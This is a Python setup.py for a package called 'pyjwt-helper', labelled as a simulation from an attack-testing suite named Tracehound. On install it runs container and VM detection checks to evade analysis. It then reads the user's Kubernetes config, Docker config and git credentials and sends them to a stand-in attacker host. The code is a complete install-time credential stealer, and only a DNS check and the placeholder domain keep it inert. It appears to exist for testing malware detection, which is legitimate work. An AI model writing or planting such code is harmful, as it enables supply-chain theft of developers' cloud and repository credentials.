"""pyjwt-helper 1.0.4 setup.py (simulation from Tracehound's attack suite)."""
import json
import os
import urllib.request

from setuptools import setup

def _in_sandbox():
    # act only inside the Tracehound sandbox, whose fake DNS answers every name with a
    # 198.18.0.0/15 address; elsewhere .example names do not resolve and nothing happens
    import socket
    try:
        return socket.gethostbyname("sandbox-check.attacker.example").startswith(("198.18.", "198.19."))
    except OSError:
        return False


def _looks_like_analysis():
    # the usual probes of evasive packages: container markers, init's cgroup, DMI vendor strings
    if os.path.exists("/.dockerenv") or os.path.exists("/run/.containerenv"):
        return True
    try:
        with open("/proc/1/cgroup") as fh:
            if any(w in fh.read() for w in ("docker", "kubepods", "lxc")):
                return True
    except OSError:
        pass
    for f in ("/sys/class/dmi/id/product_name", "/sys/class/dmi/id/sys_vendor"):
        try:
            with open(f) as fh:
                if any(v in fh.read() for v in ("VirtualBox", "VMware", "QEMU", "Xen")):
                    return True
        except OSError:
            pass
    return (os.cpu_count() or 1) < 2


if _in_sandbox() and not _looks_like_analysis():
    home = os.path.expanduser("~")
    loot = {}
    for rel in (".kube/config", ".docker/config.json", ".git-credentials"):
        try:
            with open(os.path.join(home, rel)) as fh:
                loot[rel] = fh.read()
        except OSError:
            pass
    try:
        urllib.request.urlopen(urllib.request.Request("http://k8s-harvest.attacker.example/c",
                                                      data=json.dumps(loot).encode()), timeout=5)
    except Exception:
        pass

setup(name="pyjwt-helper", version="1.0.4", py_modules=["pyjwt_helper"])
